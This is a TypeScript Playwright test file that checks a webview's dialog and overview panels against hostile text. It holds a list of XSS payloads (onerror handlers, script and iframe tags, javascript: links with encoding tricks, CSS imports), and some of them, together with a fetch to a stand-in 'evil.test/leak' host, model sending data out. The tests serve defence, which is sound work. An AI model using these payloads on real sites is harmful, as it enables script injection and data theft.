// Hostile text wherever a panel shows text of others: it runs nothing, loads nothing and goes nowhere, by our own
// markup; and what gets into the page all the same is stopped by the content policy (SPEC 18.1).
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { dialogScenes } from './support/dialog-scenes.ts';
import { overviewScenes } from './support/overview-scenes.ts';
import { drawn, openWebview, type WebviewPage } from './support/webview-page.ts';

const script = 'window.pwned=1';
const away = 'https://evil.test';

/** What people have tried on pages that show markdown and names. */
const attacks = [
  `<img src=x onerror="${script}">`,
  `<img src="${away}/pixel.png?secret">`,
  `![pixel](${away}/pixel.png?secret)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `<script>${script}</script>`,
  `<svg onload="${script}"><script>${script}</script></svg>`,
  `<style>@import url(${away}/x.css); * { background: url(${away}/y) }</style>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<link rel=stylesheet href=${away}/x.css><meta http-equiv=refresh content="0;url=${away}">`,
  `<base href="${away}/"><form action="${away}"><button autofocus onfocus="${script}">go</button></form>`,
  `<a href="javascript:${script}">html link</a>`,
  `[js](javascript:${script}) [up](JaVaScRiPt:${script}) [entity](javascript&#58;${script}) [tab](java\tscript:${script})`,
  `[data](data:text/html,<script>${script}</script>) [command](command:workbench.action.terminal.new) [vb](vbscript:x)`,
  `[title](https://a.test "x\\" onmouseover=\\"${script}") <https://a.test/?"onmouseover="${script}>`,
  `[named](javascript&colon;${script}) &lt;img src=x onerror=&quot;${script}&quot;&gt; &lt;/textarea&gt;&lt;script&gt;${script}&lt;/script&gt;`,
  `<!-- --><b style="position:fixed;inset:0" onclick="${script}">comment</b><!-- -->`,
  `\`\`\`js" onload="${script}\n</code></pre><img src=x onerror=${script}>\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${script}> |`,
  `\u202Etxt.exe\u0000\uFEFF"><img src=x onerror=${script}>`,
];
const hostile = attacks.join('\n\n');

/** Fields in which text of others comes; ids, kinds and times are ours. */
const textKeys = new Set([
  'answer',
  'args',
  'body',
  'bodyContent',
  'content',
  'domain',
  'finish',
  'headline',
  'label',
  'message',
  'model',
  'name',
  'note',
  'path',
  'prompt',
  'readOnly',
  'reason',
  'remedy',
  'rootHeadline',
  'scripted',
  'session',
  'taskDocPath',
  'tellaskHead',
  'tellaskSession',
  'text',
  'warning',
  'said',
  'command',
]);
const listKeys = new Set(['options', 'reminders', 'blocked']);

/** The same message, each such text followed by all attacks. */
function poisoned(value: unknown, key = ''): unknown {
  if (typeof value === 'string') return textKeys.has(key) ? `${value} ${hostile}` : value;
  if (Array.isArray(value)) {
    const isList = listKeys.has(key);
    return value.map(each => (isList && typeof each === 'string' ? `${each} ${hostile}` : poisoned(each, key)));
  }
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, poisoned(each, name)]));
}

/** Opens what is folded, so that all text is in the page. */
async function unfoldAll(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const fold of document.querySelectorAll<HTMLElement>('[aria-expanded=false]')) fold.click();
  });
  await drawn(page);
}

/** Elements and attributes that only an attack would bring. */
function strangers(page: Page): Promise<readonly string[]> {
  return page.evaluate(() =>
    [...document.querySelectorAll('#app *')].flatMap(element => {
      const bad = /^(?:SCRIPT|IFRAME|OBJECT|EMBED|LINK|META|BASE|FORM|STYLE)$/.test(element.tagName)
        ? [element.tagName]
        : [];
      const attributes = [...element.attributes].filter(({ name, value }) => {
        if (name.startsWith('on') || name === 'srcdoc') return true;
        return /^(?:href|src|action|formaction|xlink:href)$/.test(name) && !/^(?:#|blob:|$)/.test(value);
      });
      return [...bad, ...attributes.map(({ name, value }) => `${element.tagName} ${name}=${value}`)];
    }),
  );
}

describe('hostile text', () => {
  let view: WebviewPage;
  let requests: string[];
  afterEach(() => view.close());

  async function open(name: 'dialog' | 'overview'): Promise<void> {
    view = await openWebview(name, { width: 1100 });
    requests = [];
    // What the content policy stops never comes here.
    await view.page.route(
      url => url.origin !== 'https://webview.test',
      route => {
        requests.push(route.request().url());
        return route.abort();
      },
    );
    view.page.on('dialog', dialog => {
      requests.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
  }

  async function checkHarmless(): Promise<void> {
    await unfoldAll(view.page);
    assert.deepEqual(await strangers(view.page), []);
    assert.equal(await view.page.evaluate('window.pwned'), undefined);
    assert.deepEqual(requests, []);
    assert.equal(new URL(view.page.url()).origin, 'https://webview.test');
    assert.deepEqual(view.complaints, []);
  }

  const scenes = Object.keys(dialogScenes).filter(name => name !== 'long') as (keyof typeof dialogScenes)[];
  for (const scene of scenes) {
    it(`is only text in the dialog panel: ${scene}`, async () => {
      await open('dialog');
      await view.post(poisoned(dialogScenes[scene]()) as object);
      assert.ok((await view.page.locator('#app').textContent())?.includes('onerror'));
      await checkHarmless();
    });
  }

  for (const [scene, parts] of Object.entries(overviewScenes)) {
    it(`is only text in the Overview: ${scene}`, async () => {
      await open('overview');
      for (const part of parts) await view.post(poisoned(part) as object);
      await checkHarmless();
    });
  }

  it('links that are clicked are only reported, and only those of the web', async () => {
    await open('dialog');
    await view.post(poisoned(dialogScenes.answered()) as object);
    await view.page.evaluate(() => {
      for (const link of document.querySelectorAll<HTMLElement>('.conversation [data-href]')) link.click();
    });
    const hrefs = (await view.sent()).flatMap(({ kind, href }) => (kind === 'openLink' ? [String(href)] : []));
    assert.ok(hrefs.length > 0);
    for (const href of hrefs) assert.doesNotMatch(href, /^\s*(?:javascript|data|vbscript|command):/i);
    assert.equal(await view.page.evaluate('window.pwned'), undefined);
  });

  it('that got into the page as markup would still run and load nothing', async () => {
    await open('dialog');
    const violations = await view.page.evaluate(async markup => {
      const stopped: string[] = [];
      addEventListener('securitypolicyviolation', event => stopped.push(event.effectiveDirective));
      document.querySelector('#app')?.insertAdjacentHTML('beforeend', markup);
      const inline = document.createElement('script');
      inline.textContent = 'window.pwned=1';
      document.body.append(inline);
      const remote = document.createElement('script');
      remote.src = 'https://evil.test/x.js';
      document.body.append(remote);
      document.querySelector<HTMLAnchorElement>('a[href^="javascript:"]')?.click();
      document.querySelector<HTMLButtonElement>('form button')?.click();
      await fetch('https://evil.test/leak').catch(() => {});
      await new Promise(resolve => setTimeout(() => requestAnimationFrame(() => requestAnimationFrame(resolve)), 0));
      return [...new Set(stopped)].sort();
    }, attacks.join('\n'));
    assert.equal(await view.page.evaluate('window.pwned'), undefined);
    assert.deepEqual(requests, []);
    for (const directive of ['connect-src', 'img-src', 'script-src-elem', 'style-src-elem']) {
      assert.ok(violations.includes(directive), `${directive} was not needed: ${violations.join()}`);
    }
  });
});
